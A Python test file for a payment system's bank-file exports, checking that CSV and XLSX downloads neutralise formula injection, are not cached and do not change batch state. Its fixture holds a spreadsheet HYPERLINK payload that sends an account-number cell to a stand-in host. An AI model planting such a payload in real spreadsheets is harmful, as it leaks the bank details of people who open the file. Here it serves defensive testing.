"""The bank file through the real endpoints: a talent's hostile bank name reaches the payment officer's CSV and
XLSX as inert text (never a formula), downloading the file changes nothing (the batch is marked sent by its own
POST, audited), and every file download is served with ``Cache-Control: no-store``."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from talentpool.core.errors import ApplicationError
from talentpool.core.models import AuditEvent
from talentpool.eligibility.models import Entitlement
from talentpool.eligibility.runs import run_create, run_execute
from talentpool.payments import services
from talentpool.payments.models import BankAccount, BatchStatus, PaymentBatch

ACCOUNT = "6212345678901234569"
HOSTILE = '=HYPERLINK("http://x/?d="&C2,"核对")'


@pytest.fixture
def ready(world, living, client):
    """李明 records a hostile bank name through the API; his first line is approved into a ready batch."""
    world.officer.is_payment_officer = True
    world.officer.save()
    client.force_login(world.talent_user)
    saved = client.put("/api/v1/payments/me/bank-account", {"holder": "李明", "bank_name": HOSTILE, "number": ACCOUNT},
                       content_type="application/json")
    assert saved.status_code == 200, saved.content
    assert BankAccount.objects.get(talent=world.talent).bank_name == HOSTILE  # stored as typed: text is text
    run_execute(run_create(as_of=date(2025, 3, 1), scope="330106").pk)
    line = Entitlement.objects.get(talent=world.talent, instalment=1)
    services.entitlements_approve(actor=world.officer, ids=[line.pk])
    batch = services.batch_create(actor=world.officer, ids=[line.pk])
    assert batch.status == BatchStatus.READY
    client.force_login(world.officer)
    return batch, line


def test_a_formula_in_the_bank_name_reaches_the_csv_as_text(client, ready):
    batch, line = ready
    response = client.get(f"/api/v1/payments/batches/{batch.pk}/file?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][:5] == [line.reference, "李明", ACCOUNT, "'" + HOSTILE, f"{line.amount:.2f}"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_the_xlsx_holds_no_formula_and_the_amount_is_a_number(client, ready):
    batch, line = ready
    response = client.get(f"/payments/batches/{batch.pk}/file.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("'" + HOSTILE, "s")
    assert sheet["C2"].value == ACCOUNT and sheet["C2"].data_type == "s"  # the account number stays text
    assert sheet["E2"].data_type == "n" and sheet["E2"].value == float(line.amount)


def test_downloading_changes_nothing_and_marking_sent_is_its_own_post(client, world, ready):
    batch, line = ready
    for path in (f"/payments/batches/{batch.pk}/file.csv", f"/payments/batches/{batch.pk}/file.xlsx",
                 f"/api/v1/payments/batches/{batch.pk}/file?format=xlsx"):
        response = client.get(path)
        assert response.status_code == 200 and response["Cache-Control"] == "no-store", path
    batch.refresh_from_db()
    assert (batch.status, batch.sent_by, batch.sent_at) == (BatchStatus.READY, None, None)
    with pytest.raises(ApplicationError) as refused:
        services.batch_return_import(actor=world.officer, batch_id=batch.pk, path="/nonexistent", filename="r.csv")
    assert refused.value.code == "batch_state"

    page = client.get(f"/payments/batches/{batch.pk}/").content.decode()
    assert 'id="mark-sent"' in page and f"/payments/batches/{batch.pk}/sent/" in page
    assert client.get(f"/payments/batches/{batch.pk}/sent/").status_code == 405
    assert PaymentBatch.objects.get(pk=batch.pk).status == BatchStatus.READY

    world.officer.is_payment_officer = False
    world.officer.save()
    client.post(f"/payments/batches/{batch.pk}/sent/")
    assert PaymentBatch.objects.get(pk=batch.pk).status == BatchStatus.READY
    assert not AuditEvent.objects.filter(action="payment_batch", detail__action="sent").exists()

    world.officer.is_payment_officer = True
    world.officer.save()
    response = client.post(f"/payments/batches/{batch.pk}/sent/")
    assert response.status_code == 302
    batch.refresh_from_db()
    assert (batch.status, batch.sent_by) == (BatchStatus.SENT, world.officer) and batch.sent_at is not None
    event = AuditEvent.objects.get(action="payment_batch", detail__action="sent")
    assert (event.actor, event.target) == (world.officer, f"batch:{batch.number}")
    assert 'id="mark-sent"' not in client.get(f"/payments/batches/{batch.pk}/").content.decode()
    again = client.post(f"/api/v1/payments/batches/{batch.pk}/sent", content_type="application/json")
    assert again.status_code == 400 and again.json()["error"]["code"] == "batch_state"
    assert AuditEvent.objects.filter(action="payment_batch", detail__action="sent").count() == 1


def test_the_paid_report_download_is_not_stored(client, ready):
    response = client.get("/payments/report/?year=2025&format=xlsx")
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    cells = [c for ws in load_workbook(io.BytesIO(response.content)).worksheets for r in ws.iter_rows() for c in r]
    assert cells and not [c for c in cells if c.data_type == "f"]


def test_a_kept_bank_file_follows_a_changed_account_at_once(client, ready, world):
    """The workbook is kept per process under what its cells hold: downloading twice gives the kept file, and a
    new account number (or bank) is a new file on the very next download, never the stale one."""
    batch, line = ready
    first = client.get(f"/api/v1/payments/batches/{batch.pk}/file")
    again = client.get(f"/api/v1/payments/batches/{batch.pk}/file")
    assert first.content == again.content
    BankAccount.objects.filter(talent=world.talent).update(bank_name="中国银行杭州分行")
    changed = client.get(f"/api/v1/payments/batches/{batch.pk}/file")
    sheet = load_workbook(io.BytesIO(changed.content)).active
    assert [c.value for c in sheet[2]][:4] == [line.reference, "李明", ACCOUNT, "中国银行杭州分行"]
    assert AuditEvent.objects.filter(action="export", target=f"batch:{batch.number}").count() == 3
